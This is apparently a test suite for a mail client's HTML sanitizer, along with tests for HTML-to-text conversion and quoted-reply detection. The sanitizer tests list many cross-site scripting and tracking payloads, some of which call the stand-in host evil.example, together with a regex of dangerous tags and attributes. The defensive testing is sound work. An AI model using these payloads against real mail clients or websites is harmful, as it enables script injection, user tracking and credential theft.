import { existsSync, readFileSync } from 'node:fs'
import { parseDocument } from 'htmlparser2'
import { describe, expect, it } from 'vitest'
import { cleanHtml } from '../../../electron/engine/mail/body.ts'
import { htmlToText } from '../../../electron/engine/mail/html-text.ts'
import { quotedFrom } from '../../../electron/engine/mail/quote.ts'

const PNG = 'data:image/png;base64,iVBORw0KGgo='
const clean = (html: string): string => cleanHtml(html, { cids: new Map([['logo@x', PNG]]) })

/** The part of htmlparser2's tree that is looked at. */
interface Node {
  name?: string
  data?: string
  attribs?: Record<string, string>
  children?: Node[]
}

const DANGEROUS_TAGS =
  /^(?:script|style|svg|math|iframe|frame|frameset|object|embed|applet|form|input|button|select|textarea|meta|link|base|template|noscript|video|audio|source|track|picture|portal|dialog|title|head|xmp|plaintext|marquee|isindex|bgsound|layer|ilayer|xml|canvas|details)$/

/** What the browser would be asked to do; read from the parsed result, not from its letters. */
function faults(html: string): string[] {
  const found: string[] = []
  const visit = (node: Node): void => {
    if (node.attribs === undefined) {
      if (node.data === undefined || node.name !== undefined) found.push(node.name ?? 'comment')
      return
    }
    if (DANGEROUS_TAGS.test(node.name ?? '')) found.push(`<${node.name ?? ''}>`)
    for (const [name, value] of Object.entries(node.attribs)) {
      const tight = value.replace(/[\s\p{Cc}]/gu, '').toLowerCase()
      if (
        name.startsWith('on') ||
        /^(?:srcset|background|poster|action|formaction|xlink:href|srcdoc|ping|data|id|class|name)$/.test(name)
      )
        found.push(name)
      if (name === 'href' && !/^(?:https?:\/\/|mailto:|tel:)/.test(tight)) found.push(`href ${value}`)
      if (name === 'src' && !/^data:image\/(?:png|jpe?g|gif|webp|bmp);base64,/.test(tight)) found.push(`src ${value}`)
      if (
        name === 'style' &&
        /url|expression|import|behavior|binding|position|z-index|\\|\/\*|var\(|image|@|fixed|absolute/.test(tight)
      )
        found.push(`style ${value}`)
    }
    node.children?.forEach(visit)
  }
  const root = parseDocument(html) as unknown as Node
  root.children?.forEach(visit)
  return found
}

const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script foo>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" / >',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img src=https://evil.example/pixel.gif width=1 height=1>',
  '<img src=//evil.example/pixel.gif>',
  '<img srcset="https://evil.example/1x.png 1x" src="cid:logo@x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="cid:inconnu@x" onload=alert(1)>',
  '<image src="https://evil.example/x">',
  '<picture><source srcset="https://evil.example/x"><img src=x></picture>',
  '<video poster=https://evil.example/p src=https://evil.example/v autoplay></video>',
  '<audio src=https://evil.example/a onplay=alert(1)></audio>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><use href="https://evil.example/x.svg#a"></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="pli://app/index.html">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://a.example" ping="https://evil.example" onclick=alert(1)>x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset onload=alert(1)><frame src=x></frameset>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code=x></applet>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel=prefetch href=https://evil.example/x>',
  '<base href="https://evil.example/">',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<style><!--</style><script>alert(1)</script>-->',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="background-image:url(\'https://evil.example/x\')">x</p>',
  '<p style="background-color:u\\72l(https://evil.example)">x</p>',
  '<p style="color:red;background:/**/url(//evil.example)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(#default#time2)">x</p>',
  '<p style="-moz-binding:url(https://evil.example)">x</p>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  '<div style="width:var(--x);color:attr(data-x url)">x</div>',
  '<ul style="list-style-image:url(https://evil.example)"><li>x</ul>',
  '<table background="https://evil.example/x"><td background="https://evil.example/y">x</table>',
  '<body onload=alert(1) background="https://evil.example/x">x</body>',
  '<form action="https://evil.example"><input name=motdepasse type=password><button formaction=javascript:alert(1)>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte mso 9]><img src=https://evil.example/x><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="https://evil.example"?>',
  '<p title="&lt;img src=x onerror=alert(1)&gt;">x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<a id=location name=documentElement class="app">x</a>',
  '<div<script>alert(1)</script>>x',
  '<b <script>alert(1)</script>0',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<img alt="`><img src=xx onerror=alert(1)>" src=x>',
]

describe('cleanHtml', () => {
  it.each(VECTORS)('%j', (vector) => {
    for (const html of [vector, `<table><tr><td>${vector}`, `<p title="a">${vector}</p>`, vector.repeat(2)])
      expect(faults(clean(html))).toEqual([])
  })

  it('is clean on its own output', () => {
    for (const vector of VECTORS) expect(faults(clean(clean(vector)))).toEqual([])
  })

  it('shows images of the mail, and the words of the others', () => {
    expect(clean('<img src="cid:logo%40x" alt="Logo" width=20>')).toBe(`<img alt="Logo" width="20" src="${PNG}" />`)
    expect(clean('<img src="https://a.example/x.png" alt="a < b">')).toBe('<span>a &lt; b</span>')
  })

  it('keeps a table, colours and links', () => {
    const html = '<table border="1"><tr><td colspan="2" style="color:#c00;font-weight:bold">5,4</td></tr></table>'
    expect(clean(html)).toBe(html)
    expect(clean('<a href="https://a.example/x?y=1&amp;z">x</a>')).toBe(
      '<a href="https://a.example/x?y=1&amp;z" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    )
  })

  it('gives the text alone of a page that nests without end', () => {
    expect(clean(`${'<div>'.repeat(200_000)}fond <b>&lt;`)).toMatch(/^<pre>fond &amp;lt;<\/pre>$/)
  })

  const hostile = new URL('../../../../shared/testdata/hostile/', import.meta.url)
  it.skipIf(!existsSync(hostile))('holds against known payloads', async () => {
    const { default: payloads } = (await import(new URL('html_DOMPurify_expect.mjs', hostile).href)) as {
      default: { payload: string }[]
    }
    expect(payloads.length).toBeGreaterThan(200)
    const files = [
      'html_mimekit_blocked.html',
      'html_mimekit_script-data.html',
      'html_mimekit_badly-quoted-attr.html',
    ].map((f) => readFileSync(new URL(f, hostile), 'utf8'))
    for (const html of [...payloads.map((p) => p.payload), ...files]) expect(faults(clean(html))).toEqual([])
  })
})

describe('htmlToText', () => {
  it.each([
    ['<p>un</p><p>deux</p>', 'un\n\ndeux'],
    ['un<br>deux<br/><br/>trois', 'un\ndeux\n\ntrois'],
    ['<div>un</div><div>deux <b>gras</b>, suite</div>', 'un\ndeux gras, suite'],
    ['<table><tr><td>K</td><td>5,4</td></tr><tr><td>Na</td><td>141</td></tr></table>', 'K 5,4\nNa 141'],
    ['a &lt;b&gt; &eacute; &#8217; 5&nbsp;mg', 'a <b> é ’ 5\u00a0mg'],
    ['<pre>a\n  b</pre>', 'a\n  b'],
    ['<blockquote>cité</blockquote>', 'cité'],
    ['dit<blockquote>cité</blockquote>', 'dit\n\n> cité'],
    ['<script>x</script><style>y</style>z<!-- t -->', 'z'],
    ['', ''],
  ])('%s', (html, text) => expect(htmlToText(html)).toBe(text))
})

describe('quotedFrom', () => {
  const own = (text: string): string => text.slice(0, quotedFrom(text))
  it.each([
    ['Merci.\n\nLe lun. 16 nov. 2026 à 08:05, Labo <l@x.fr> a écrit :\n> Bonjour\n> suite\n', 'Merci.\n\n'],
    ['Merci.\n\nLe lun. 16 nov. 2026 à 08:05, Labo <l@x.fr>\na écrit :\n> Bonjour', 'Merci.\n\n'],
    ['Merci.\n-----Message d’origine-----\nDe : x', 'Merci.\n'],
    ['Merci.\n\nDe : Labo\nEnvoyé : lundi\nÀ : moi\nObjet : Bilan\n\nBonjour', 'Merci.\n\n'],
    ['> question\nréponse\n> autre\nréponse', '> question\nréponse\n> autre\nréponse'],
    ['Le patient a écrit : il va bien', 'Le patient a écrit : il va bien'],
    ['rien', 'rien'],
  ])('%j', (text, expected) => expect(own(text)).toBe(expected))
})
